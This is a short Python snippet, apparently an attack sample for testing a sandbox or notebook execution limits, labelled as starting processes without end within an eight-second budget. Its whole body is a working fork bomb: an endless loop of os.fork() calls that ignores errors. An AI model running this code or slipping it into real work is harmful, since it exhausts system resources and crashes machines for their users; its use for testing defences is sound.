# attack: starts processes without end, before any function exists
# seconds: 8
# %% cell added
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
